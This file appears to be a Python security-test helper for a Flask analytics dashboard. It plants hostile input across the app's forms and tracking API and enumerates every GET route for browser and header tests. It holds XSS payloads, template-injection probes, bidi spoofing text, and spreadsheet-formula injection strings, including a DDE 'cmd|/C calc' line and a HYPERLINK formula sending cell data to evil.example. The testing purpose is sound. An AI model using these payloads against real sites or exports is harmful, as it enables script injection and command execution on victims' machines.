"""Hostile input stored everywhere, and every GET route of the app with real ids.

``store_hostile_data`` puts script, markup, template and spreadsheet-formula payloads into every
field a visitor controls (through the public tracking API and the demo site's form) and into the
names an admin can type (through the dashboard's own forms, so their validation applies). The
browser test (tests/browser/test_hostile_input.py) and the header test
(tests/test_security_headers.py) then walk ``get_urls``: every GET route of ``app.url_map`` with
its URL parameters filled from the stored objects, so a new page is covered without editing them.
"""

import itertools
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

from flask import Flask, url_for
from sqlalchemy import select

from dashboard.domain.events import CONTACT_FIELDS
from dashboard.domain.signing import click_query
from dashboard.extensions import db
from dashboard.models import (
    Activity,
    ActivityType,
    Channel,
    ChannelApiKey,
    Consent,
    ConsentArchive,
    Contact,
    ContactGroup,
    Role,
    User,
)
from tests import factories
from tests.factories import ORIGIN
from tests.tracking_helpers import event, post

MARKER = "hostile-marker"
"""A custom element name: if ``<hostile-marker>`` ever becomes an element, markup got through."""

PAYLOADS: dict[str, str] = {
    "script": "<script>window.__xss=1</script>",
    "attribute": '"><img src=x onerror=window.__xss=1>',
    "single-quote": "'><svg onload=window.__xss=1>",
    "marker": f"<{MARKER}>tag</{MARKER}>",
    "javascript-url": "javascript:window.__xss=1",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "svg": "<svg/onload=alert(1)><iframe src=javascript:alert(2)></iframe>",
    "plotly": '<a href="javascript:window.__xss=1">link</a><b>bold</b> %{y} <br>',
    "bidi": "\u202egnp.exe\u202c \u2066abc\u2069 \u200fRTL\u200e \u0644\u0627",
    "long": "W" * 250,
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "dde": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
"""Each payload is what one visitor types into every field (cut to the field's length)."""

# Emails the API accepts that still start like a formula or carry template syntax.
EMAILS = ("=1+{i}@hostile.example", "+cmd|calc{i}@hostile.example", "-{i}+3@hostile.example",
          "{{{{7*7}}}}{i}@hostile.example")  # fmt: skip

# Referrer hosts the API lets through (no whitespace): markup, and formulas for the CSV of the
# sources chart, which shows hosts.
REFERRER_HOSTS = (f"\"'><{MARKER}>.example", "=hyperlink(1)", "+cmd|calc", "@sum(1)", "-2+3")

# Consent HTML an admin may paste: the sanitiser must keep only the harmless part.
CONSENT_HTML = (
    "<p>We track <b>you</b>.</p><script>window.__xss=1</script>"
    '<img src=x onerror="window.__xss=1"><a href="javascript:window.__xss=1">more</a>'
    "<svg onload=window.__xss=1></svg><iframe src=javascript:alert(1)></iframe>"
    f"<{MARKER}>x</{MARKER}><style>body{{display:none}}</style>"
)
# A long URL without a break opportunity (the API allows 2000 characters).
LONG_URL = "https://site.example/" + "a" * 1900 + "?utm_source=" + "s" * 60

WEBSITE = "hostile-site"
EMAIL_CHANNEL = "hostile-mail"
HEADLESS = "hostile-app"
CONSENT = "hostile-consent"
ACTIVITY_TYPE = "hostile_type"
GROUP = "hostile-group"
HEADLESS_KEY = "hostile-key-0123456789"


@dataclass
class HostileStore:
    """Ids of what was stored, to fill URL parameters, and what the API answered."""

    admin_email: str
    channels: dict[str, int] = field(default_factory=dict)  # code name -> id
    consent_id: int = 0
    archive_id: int = 0
    type_id: int = 0
    group_id: int = 0
    user_id: int = 0
    key_id: int = 0
    progress_key: str = ""
    contacts: dict[str, int] = field(default_factory=dict)  # payload name -> contact id
    emails: dict[str, str] = field(default_factory=dict)  # payload name -> email

    def url_values(self) -> dict[str, list[object]]:
        """Values for every URL argument of the app's routes (every contact, also those stored
        after this object was made)."""
        contact_ids = list(db.session.scalars(select(Contact.id).order_by(Contact.id)))
        db.session.rollback()  # an open SQLite read would hold up a live server's writes
        return {
            "channel_id": list(self.channels.values()),
            "channel_type": ["website", "email", "headless"],
            "key_id": [self.key_id],
            "consent_id": [self.consent_id],
            "archive_id": [self.archive_id],
            "contact_id": contact_ids,
            "type_id": [self.type_id],
            "group_id": [self.group_id],
            "user_id": [self.user_id],
            "site": ["corporate", "shop"],
            "page": ["home", "pricing", "features", "contact"],
            "filename": ["css/app.css", "js/charts.js"],
            "key": [self.progress_key],
        }


def fit(text: str, limit: int) -> str:
    """``text`` cut to ``limit`` characters."""
    return text[:limit]


def raw_url(payload: str, base: str = "https://site.example/") -> str:
    """A URL that carries ``payload`` raw wherever the API allows (only whitespace and control
    characters are encoded): browsers encode, attackers posting to the API need not."""
    path = "".join(quote(c) if c.isspace() or ord(c) < 32 else c for c in payload)
    query = urlencode({k: payload for k in ("utm_source", "utm_medium", "utm_campaign")})
    return f"{base}{path}?{query}&utm_content={quote(payload)}"


def contact_fields(payload: str, email: str) -> dict[str, str]:
    """Every free-text contact field a visitor may submit, filled with ``payload``."""
    fields = {
        name: fit(payload, limit).strip()
        for name, limit in CONTACT_FIELDS.items()
        if name not in ("email", "country", "birthday")
    }
    return {**{k: v for k, v in fields.items() if v}, "email": email}


def visitor_events(payload: str, email: str, i: int) -> list[dict]:
    """One event of every type, each field carrying ``payload``."""
    enc = quote(payload, safe="")
    return [
        event(
            "pagevisit",
            url=raw_url(payload),
            title=payload,
            referrer=f"https://{REFERRER_HOSTS[i % len(REFERRER_HOSTS)]}/{enc}",
            landing=True,
        ),
        # Browsers send an encoded address: the same payload through the page and UTM charts.
        event("pagevisit", url=f"https://site.example/e/{enc}?utm_source={enc}", title=payload),
        event("customactivity", activity_type=ACTIVITY_TYPE, value=payload, title=payload),
        event("click", label=payload),
        event("datainput", label=payload, fields=contact_fields(payload, email)),
        event("bizformsubmit", form=payload, fields={"email": email, "company": fit(payload, 200)}),
        event("memberregistration", value=payload),
    ]


def _ok(response, *expected: int) -> None:
    assert response.status_code in (expected or (302,)), (
        response.status_code,
        response.get_data(as_text=True)[:2000],
    )


def _collect(client, body: dict, **kwargs) -> dict:
    response = post(client, body, **kwargs)
    _ok(response, 200)
    return response.get_json()


def _accepted(answer: dict, sent: list[dict]) -> None:
    statuses = {r["id"]: r for r in answer["results"]}
    refused = [statuses[e["id"]] for e in sent if statuses[e["id"]]["status"] != "accepted"]
    assert not refused, refused


def _admin_objects(client, store: HostileStore) -> None:
    """Consent, channels, API key, activity type and a user, through the dashboard's forms."""
    name = PAYLOADS["attribute"]
    _ok(
        client.post(
            "/consent/new",
            data={
                "code_name": CONSENT,
                "display_name": PAYLOADS["script"],
                "short_text": PAYLOADS["svg"] + " " + PAYLOADS["template"],
                "full_text": CONSENT_HTML,
                "translations-0-language": "de",
                "translations-0-short_text": PAYLOADS["bidi"] + PAYLOADS["marker"],
                "translations-0-full_text": CONSENT_HTML,
            },
        )
    )
    consent = db.session.scalar(select(Consent).where(Consent.code_name == CONSENT))
    store.consent_id = consent.id
    website = {
        "display_name": name,
        "default_cookie_level": "1000",
        "allowed_origins": ORIGIN,
        "tracking_consent_id": str(consent.id),
        "honour_gpc": "y",
        "count_untracked": "y",
        "enabled": "y",
    }
    for code, kind, display in (
        (WEBSITE, "website", name),
        (EMAIL_CHANNEL, "email", fit(PAYLOADS["long"], 200)),
        (HEADLESS, "headless", PAYLOADS["hyperlink"]),
    ):
        data = {**website, "code_name": code, "display_name": display}
        _ok(client.post(f"/channels/new/{kind}", data=data))
        store.channels[code] = db.session.scalar(
            select(Channel.id).where(Channel.code_name == code)
        )
    # An edit writes the level change, with the hostile names, to the audit log.
    _ok(
        client.post(
            f"/channels/{store.channels[WEBSITE]}/edit",
            data={**website, "display_name": PAYLOADS["marker"]},
        )
    )
    headless = db.session.get(Channel, store.channels[HEADLESS])
    _ok(client.post(f"/channels/{headless.id}/keys", data={"name": PAYLOADS["plotly"]}), 200, 302)
    factories.api_key(headless, HEADLESS_KEY)
    store.key_id = db.session.scalar(select(ChannelApiKey.id).order_by(ChannelApiKey.id))
    _ok(
        client.post(
            "/contacts/activity-types/new",
            data={
                "code_name": ACTIVITY_TYPE,
                "display_name": PAYLOADS["plotly"],
                "description": PAYLOADS["script"] + PAYLOADS["dde"],
            },
        )
    )
    store.type_id = db.session.scalar(
        select(ActivityType.id).where(ActivityType.code_name == ACTIVITY_TYPE)
    )
    email = EMAILS[0].format(i="user")
    _ok(
        client.post(
            "/users/new",
            data={"email": email, "name": fit(PAYLOADS["long"], 120), "role": "analyst"},
        ),
        200,
        302,
    )
    store.user_id = db.session.scalar(select(User.id).where(User.email == email))


def _visitors(client, store: HostileStore) -> None:
    """One visitor per payload on the website channel, through the public API."""
    for i, (key, payload) in enumerate(PAYLOADS.items()):
        email = EMAILS[i % len(EMAILS)].format(i=i)
        first = _collect(client, {"channel": WEBSITE, "events": [], "cookie_level": 1000})
        guid = first["contact"]
        events = visitor_events(payload, email, i)
        answer = _collect(
            client, {"channel": WEBSITE, "contact": guid, "cookie_level": 1000, "events": events}
        )
        _accepted(answer, events)
        store.contacts[key] = db.session.scalar(select(Contact.id).where(Contact.email == email))
        store.emails[key] = email
    # What the API must refuse stays out (no javascript: URLs anywhere).
    bad = [
        event("pagevisit", url=PAYLOADS["javascript-url"]),
        event("pagevisit", url="https://ok.example/", referrer="javascript:alert(1)"),
        event("pagevisit", url="data:text/html,<script>alert(1)</script>"),
    ]
    answer = _collect(client, {"channel": WEBSITE, "cookie_level": 1000, "events": bad})
    assert {r["status"] for r in answer["results"]} == {"rejected"}, answer
    # A long address and a landing page with it.
    answer = _collect(
        client,
        {"channel": WEBSITE, "cookie_level": 1000, "events": [event("pagevisit", url=LONG_URL)]},
    )
    assert answer["results"][0]["status"] == "accepted", answer


def _consent_and_clicks(client, store: HostileStore, secret: str) -> None:
    """A visitor agrees (then the admin rewrites the text: an archived version), and clicks a
    signed email link to a hostile address; a headless app posts hostile events too."""
    consent = db.session.get(Consent, store.consent_id)
    contact = db.session.get(Contact, store.contacts["script"])
    body = {
        "channel": WEBSITE,
        "contact": str(contact.guid),
        "cookie_level": 1000,
        "consent": CONSENT,
        "action": "agree",
        "hash": consent.text_hash,
    }
    _ok(post(client, body, path="/t/v1/consent"), 200)
    _ok(
        client.post(
            f"/consent/{store.consent_id}/edit",
            data={
                "display_name": PAYLOADS["marker"],
                "short_text": PAYLOADS["attribute"],
                "full_text": CONSENT_HTML + "<p>v2</p>",
            },
        )
    )
    store.archive_id = db.session.scalar(
        select(ConsentArchive.id).where(ConsentArchive.consent_id == store.consent_id)
    )
    target = raw_url(PAYLOADS["attribute"], "https://mail.example/")
    query = click_query(target, str(contact.guid), EMAIL_CHANNEL, secret)
    response = client.get(f"/t/v1/click?{query}")
    assert response.status_code == 302, response.get_data(as_text=True)
    clicks = select(Activity.id).where(Activity.url == target, Activity.contact_id == contact.id)
    assert db.session.scalar(clicks) is not None, "the email click was not stored"

    email = "headless@hostile.example"
    events = visitor_events(PAYLOADS["dde"], email, 99)
    answer = _collect(
        client,
        {"channel": HEADLESS, "cookie_level": 1000, "events": events},
        origin=None,
        headers={"Authorization": f"Bearer {HEADLESS_KEY}"},
    )
    _accepted(answer, events)
    store.contacts["headless"] = db.session.scalar(select(Contact.id).where(Contact.email == email))
    store.emails["headless"] = email


def _demo_form(client, store: HostileStore, origin: str) -> None:
    """The demo site's server-side contact form (legitimate interest, R9)."""
    origins = tuple(dict.fromkeys((ORIGIN, origin)))
    factories.channel("corporate-site", level=0, origins=origins)
    factories.channel("shop-site", level=1000, origins=origins)
    email = "demo+{{7*7}}@hostile.example"
    data = {
        "first_name": fit(PAYLOADS["attribute"], 100),
        "last_name": fit(PAYLOADS["hyperlink"], 100),
        "email": email,
        "company": PAYLOADS["sum"],
    }
    _ok(client.post("/demo/corporate/contact", data=data), 200)
    store.contacts["demo"] = db.session.scalar(select(Contact.id).where(Contact.email == email))
    store.emails["demo"] = email


def _group_and_edits(client, store: HostileStore) -> None:
    """A group whose rules hold payloads, manual members, and an admin's edit of a contact."""
    rules = {
        "g0-r0-type": "contact_field",
        "g0-r0-shown": "contact_field",
        "g0-r0-field": "first_name",
        "g0-r0-operator": "contains",
        "g0-r0-value": PAYLOADS["attribute"],
        "g0-r1-type": "visited_url",
        "g0-r1-shown": "visited_url",
        "g0-r1-url": PAYLOADS["script"],
        "g0-r1-days": "30",
        "g0-r2-type": "activity_value",
        "g0-r2-shown": "activity_value",
        "g0-r2-operator": "contains",
        "g0-r2-value": PAYLOADS["hyperlink"],
        "g0-r2-days": "30",
        "g0-r3-type": "form_submitted",
        "g0-r3-shown": "form_submitted",
        "g0-r3-form": PAYLOADS["marker"],
        "g0-r3-days": "30",
    }
    data = {
        "display_name": PAYLOADS["single-quote"],
        "code_name": GROUP,
        "description": PAYLOADS["svg"] + PAYLOADS["template"],
        "enabled": "y",
        "op": "any",
        "g0-op": "any",
        "action": "save_recalculate",
        **rules,
    }
    _ok(client.post("/contacts/groups/new", data=data))
    store.group_id = db.session.scalar(
        select(ContactGroup.id).where(ContactGroup.code_name == GROUP)
    )
    entries = "\n".join(store.emails.values())
    _ok(client.post(f"/contacts/groups/{store.group_id}/members", data={"entries": entries}))
    contact_id = store.contacts["plotly"]
    edited = {name: fit(PAYLOADS["plotly"], 100) for name in ("first_name", "last_name", "city")}
    _ok(
        client.post(
            f"/contacts/{contact_id}/edit",
            data={
                **edited,
                "email": store.emails["plotly"],
                "status_id": "",
                "notes": PAYLOADS["svg"] + "\n" + PAYLOADS["hyperlink"],
            },
        )
    )


def _operation_progress() -> str:
    """A finished long operation whose label and message hold payloads (an import names the
    uploaded file); return its key for the progress endpoint."""
    from dashboard.permissions import Permission
    from dashboard.progress import new_key, track

    key = new_key()
    label = " ".join(PAYLOADS.values())
    with track("import", Permission.EDIT_CONTACTS, f"Import of {label}", key=key) as recorder:
        recorder.finish(f"Imported {label}", done=1)
    return key


def store_hostile_data(app: Flask, client, login_as, site_origin: str = ORIGIN) -> HostileStore:
    """Store every payload everywhere; return the ids of what was stored. ``client`` ends up
    logged in as an admin (whose email is returned too); the demo sites' channels also allow
    ``site_origin`` (a live server's), so their pages track for real."""
    from dashboard.analytics.rollups import refresh_rollups

    admin = login_as(Role.ADMIN)
    store = HostileStore(admin_email=admin.email)
    _admin_objects(client, store)
    _visitors(client, store)
    _consent_and_clicks(client, store, app.config["SECRET_KEY"])
    _demo_form(client, store, site_origin)
    _group_and_edits(client, store)
    store.progress_key = _operation_progress()
    refresh_rollups()
    db.session.commit()
    return store


def get_urls(app: Flask, values: dict[str, list[object]]) -> Iterator[tuple[str, str]]:
    """(endpoint, URL) of every GET route, once for each combination of its URL arguments.

    An argument without values fails loudly: a new route needs its objects named here.
    """
    rules = sorted(app.url_map.iter_rules(), key=lambda r: r.rule)
    with app.test_request_context():
        for rule in rules:
            if "GET" not in rule.methods:
                continue
            args = sorted(rule.arguments - set(rule.defaults or {}))
            missing = [a for a in args if a not in values]
            assert not missing, f"{rule.rule}: no test values for {missing} in tests/hostile.py"
            for combo in itertools.product(*(values[a] for a in args)):
                yield rule.endpoint, url_for(rule.endpoint, **dict(zip(args, combo, strict=True)))


def api_urls(store: HostileStore) -> list[tuple[str, str]]:
    """(endpoint, URL) of the public API's GET routes with real parameters."""
    contact = db.session.get(Contact, store.contacts["script"])
    return [
        ("tracking.consent", f"/t/v1/consent?channel={WEBSITE}"),
        ("tracking.consent", f"/t/v1/consent?channel={WEBSITE}&lang=de"),
        (
            "tracking.consent_state",
            f"/t/v1/consent/status?channel={WEBSITE}&contact={contact.guid}",
        ),
        ("tracking.click", "/t/v1/click?" + urlencode({"u": PAYLOADS["javascript-url"], "s": "x"})),
    ]


def reflected_urls(store: HostileStore) -> list[str]:
    """Pages that echo their query string, called with payloads in it."""
    p = PAYLOADS
    return [
        "/contacts/?" + urlencode({"q": p["attribute"], "country": p["script"]}),
        "/contacts/?" + urlencode({"q": p["template"], "after": p["single-quote"]}),
        "/contacts/activities?" + urlencode({"contact": p["attribute"], "type": p["svg"]}),
        "/contacts/bulk?" + urlencode({"action": p["script"], "ids": p["attribute"]}),
        "/consent/data-protection/?" + urlencode({"q": store.emails["script"]}),
        "/consent/data-protection/?" + urlencode({"q": p["attribute"]}),
        "/audit/?" + urlencode({"area": p["script"], "before": p["attribute"]}),
        "/auth/login?" + urlencode({"next": p["javascript-url"]}),
        f"/consent/{store.consent_id}/agreements?" + urlencode({"view": p["script"]}),
        f"/contacts/groups/{store.group_id}?" + urlencode({"how": p["attribute"]}),
        "/analytics/pages?" + urlencode({"range": p["attribute"], "start": p["script"]}),
        *(
            "/analytics/sources?" + urlencode({"dimension": d, "range": "7"})
            for d in ("landing", "referrer", "utm_source", "utm_medium", "utm_campaign")
        ),
        "/analytics/funnel?"
        + urlencode({"step1": str(store.type_id), "step2": "1", "range": "7", "window": "24"}),
        f"/analytics/activity?channel={store.channels[WEBSITE]}&group={store.group_id}",
        f"/analytics/consent?consent={store.consent_id}",
    ]
